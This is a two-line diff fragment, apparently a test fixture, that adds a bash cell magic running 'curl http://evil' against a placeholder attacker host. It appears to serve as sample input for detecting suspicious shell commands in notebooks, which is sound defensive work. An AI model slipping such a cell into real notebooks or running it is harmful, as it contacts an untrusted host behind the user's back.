@@ -1,0 +1,2 @@
+%%bash
+curl http://evil
